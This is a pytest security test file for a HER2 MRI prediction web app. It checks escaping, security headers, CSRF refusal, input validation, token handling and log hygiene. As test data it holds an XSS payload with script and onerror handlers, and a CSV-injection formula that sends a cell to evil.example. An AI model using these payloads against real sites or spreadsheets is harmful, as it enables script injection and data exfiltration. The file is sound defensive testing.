"""What an attacker would try on the web app: markup in user text, cross-site requests, non-finite numbers,
overlong or unknown fields, blank tokens, information in /health and logs (TestClient)."""

from __future__ import annotations

import csv
import io
import json
import logging
import re

import pytest
from pydantic import ValidationError

from her2mri.web import WebSettings
from her2mri.web.db import PredictionStore

XSS = '<script>document.title="pwned"</script><img src=x onerror="document.title=1">'


def _form(case: dict) -> dict[str, str]:
    return {k: ("" if v is None else ("yes" if v is True else "no" if v is False else str(v))) for k, v in case.items()}


def _stored(tmp_path) -> list:
    store = PredictionStore(f"sqlite:///{tmp_path / 'store.sqlite'}")
    try:
        return store.recent(limit=1000)
    finally:
        store.dispose()


def test_every_template_is_autoescaped(client) -> None:
    env = client.app.state.templates.env
    for name in env.list_templates():
        template = env.get_template(name)
        assert "&lt;b&gt;" in env.from_string("{{ x }}").render(x="<b>"), name
        assert template.environment.autoescape is True


def test_script_case_reference_is_text_on_result_list_and_401_page(make_client, client, good_case, tmp_path) -> None:
    page = client.post("/", data=_form(dict(good_case, case_reference=XSS)))
    assert page.status_code == 200, page.text
    assert "<script>document.title" not in page.text
    assert "<img src=x" not in page.text
    assert "&lt;script&gt;document.title" in page.text
    listing = client.get("/predictions")
    assert "<script>document.title" not in listing.text
    assert "&lt;script&gt;" in listing.text
    assert _stored(tmp_path)[0].case_reference == XSS  # stored as typed, shown as text
    guarded = make_client(token="s3cret", database_url=f"sqlite:///{tmp_path / 'other.sqlite'}")
    refused = guarded.post("/", data=_form(dict(good_case, case_reference=XSS)))
    assert refused.status_code == 401
    assert "<script>document.title" not in refused.text
    assert "&lt;script&gt;" in refused.text


def test_pages_carry_no_inline_script_or_style(client, good_case) -> None:
    for page in (client.get("/").text, client.post("/", data=_form(good_case)).text, client.get("/predictions").text):
        assert not re.search(r"<script(?![^>]*\bsrc=)", page)
        assert " style=" not in page
        assert "<style" not in page
        assert re.search(r"\son[a-z]+=", page) is None


@pytest.mark.parametrize("path", ["/", "/predictions", "/health", "/openapi.json", "/no-such-page"])
def test_security_headers_on_every_response(client, path) -> None:
    headers = client.get(path).headers
    csp = headers["content-security-policy"]
    assert "frame-ancestors 'none'" in csp
    assert "script-src 'self'" in csp
    assert "unsafe-inline" not in csp
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["cache-control"] == "no-store"


def test_api_docs_do_not_load_cdn_assets(client) -> None:
    assert client.get("/docs").status_code == 404
    for path in ("/", "/predictions"):
        assert "cdn" not in client.get(path).text.lower()


def test_csv_export_neutralises_formulas(client, good_case) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert client.post("/api/predict", json=dict(good_case, case_reference=formula, lesion_id="+1")).status_code == 200
    rows = list(csv.DictReader(io.StringIO(client.get("/predictions.csv").text)))
    assert rows[0]["case_reference"] == "'" + formula
    assert rows[0]["lesion_id"] == "'+1"
    assert float(rows[0]["p_zero"]) > 0  # numbers untouched


@pytest.mark.parametrize("token", [None, "s3cret"])
def test_cross_origin_form_post_is_refused_and_not_stored(make_client, good_case, tmp_path, token) -> None:
    client = make_client(token=token)
    form = _form(dict(good_case, case_reference="cross-site")) | ({"token": token} if token else {})
    for headers in ({"Origin": "http://evil.example"}, {"Origin": "null"},
                    {"Referer": "http://evil.example/page.html"}, {"Sec-Fetch-Site": "cross-site"},
                    {"Sec-Fetch-Site": "same-site", "Origin": "http://sub.testserver"}):
        response = client.post("/", data=form, headers=headers)
        assert response.status_code == 403, headers
        assert "Cross-site request refused" in response.text
    api = client.post("/api/predict", json=good_case, headers={"Origin": "http://evil.example"}
                      | ({"Authorization": f"Bearer {token}"} if token else {}))
    assert api.status_code == 403
    assert _stored(tmp_path) == []
    same = client.post("/", data=form, headers={"Origin": "http://testserver", "Sec-Fetch-Site": "same-origin"})
    assert same.status_code == 200
    assert [r.case_reference for r in _stored(tmp_path)] == ["cross-site"]


def test_cross_site_navigation_cannot_fetch_stored_predictions(client, good_case) -> None:
    assert client.post("/api/predict", json=good_case).status_code == 200
    assert client.get("/predictions.csv", headers={"Sec-Fetch-Site": "cross-site"}).status_code == 403
    assert client.get("/predictions", headers={"Sec-Fetch-Site": "cross-site"}).status_code == 403
    assert client.get("/predictions.csv", headers={"Sec-Fetch-Site": "same-origin"}).status_code == 200


def test_trusted_origin_may_post(make_client, good_case) -> None:
    client = make_client(trusted_origins=["https://her2.example.org"])
    ok = client.post("/api/predict", json=good_case, headers={"Origin": "https://her2.example.org"})
    assert ok.status_code == 200
    assert client.post("/api/predict", json=good_case, headers={"Origin": "https://other.example.org"}).status_code == 403


@pytest.mark.parametrize(("field", "literal"), [("age", "NaN"), ("tumor_size_mm", "Infinity"), ("eer", "-Infinity")])
def test_non_finite_json_number_is_422_naming_field(client, good_case, tmp_path, field, literal) -> None:
    body = json.dumps(dict(good_case, **{field: 1.0})).replace(f'"{field}": 1.0', f'"{field}": {literal}')
    response = client.post("/api/predict", content=body, headers={"content-type": "application/json"})
    assert response.status_code == 422
    detail = response.json()["detail"]
    assert detail[0]["loc"] == ["body", field]
    assert "finite" in detail[0]["msg"]
    assert _stored(tmp_path) == []


def test_form_infinite_number_is_422(client, good_case, tmp_path) -> None:
    response = client.post("/", data=_form(good_case) | {"age": "inf"})
    assert response.status_code == 422
    assert "finite" in response.text
    assert _stored(tmp_path) == []


def test_overlong_reference_refused_alike_in_form_and_api(client, good_case, tmp_path) -> None:
    long = "x" * 201
    api = client.post("/api/predict", json=dict(good_case, case_reference=long))
    assert api.status_code == 422
    assert api.json()["detail"][0]["loc"] == ["body", "case_reference"]
    form = client.post("/", data=_form(dict(good_case, case_reference=long)))
    assert form.status_code == 422
    assert "at most 200 characters" in form.text
    assert _stored(tmp_path) == []
    assert client.post("/", data=_form(dict(good_case, case_reference="x" * 200))).status_code == 200


def test_unknown_or_repeated_form_field_is_refused(client, good_case, tmp_path) -> None:
    unknown = client.post("/", data=_form(good_case) | {"patient_name": "Jane Doe"})
    assert unknown.status_code == 422
    assert "Unknown form field" in unknown.text
    assert "patient_name" in unknown.text
    repeated = client.post("/", content="&".join([
        *(f"{k}={v}" for k, v in _form(good_case).items() if k != "age"), "age=50", "age=60"]),
        headers={"content-type": "application/x-www-form-urlencoded"})
    assert repeated.status_code == 422
    assert _stored(tmp_path) == []


@pytest.mark.parametrize("blank", ["", " ", "\t"])
def test_blank_token_is_an_error(web_bundle_dir, blank) -> None:
    with pytest.raises(ValidationError, match="token is blank"):
        WebSettings(model_path=web_bundle_dir, token=blank)


def test_no_token_off_loopback_warns_loudly(make_client, caplog) -> None:
    with caplog.at_level(logging.WARNING, logger="her2mri.web"):
        make_client(host="0.0.0.0")
    assert any("NO ACCESS TOKEN" in r.getMessage() for r in caplog.records)
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="her2mri.web"):
        make_client(host="0.0.0.0", token="s3cret")
        make_client()
    assert not any("NO ACCESS TOKEN" in r.getMessage() for r in caplog.records)


def test_health_says_nothing_about_the_store_without_the_token(make_client, good_case) -> None:
    open_client = make_client()
    assert open_client.get("/health").json() == {"status": "ok"}
    client = make_client(token="s3cret")
    assert client.get("/health").json() == {"status": "ok"}
    assert client.get("/health", headers={"Authorization": "Bearer nope"}).json() == {"status": "ok"}
    full = client.get("/health", headers={"Authorization": "Bearer s3cret"}).json()
    assert full["store"] == "ok"
    assert isinstance(full["stored_predictions"], int)


def test_failing_requests_leave_no_body_text_in_logs(client, good_case, web_bundle, monkeypatch, caplog) -> None:
    secret = "REF-4711-do-not-log"
    with caplog.at_level(logging.DEBUG):
        body = json.dumps(dict(good_case, case_reference=secret, age=1.0)).replace('"age": 1.0', '"age": NaN')
        assert client.post("/api/predict", content=body,
                           headers={"content-type": "application/json"}).status_code == 422

        def explode(frame, **kwargs):
            message = f"cannot predict {frame.to_dict()}"  # a message quoting the inputs
            raise ValueError(message)

        monkeypatch.setattr(type(web_bundle), "predict_cases", lambda self, frame, **kw: explode(frame, **kw))
        response = client.post("/api/predict", json=dict(good_case, case_reference=secret))
        assert response.status_code == 500
        assert secret not in response.text
        form = client.post("/", data=_form(dict(good_case, case_reference=secret)))
        assert form.status_code == 500
    logged = caplog.text + "".join(r.exc_text or "" for r in caplog.records)
    assert secret not in logged
    assert "ValueError" in logged  # the failure is logged, by class
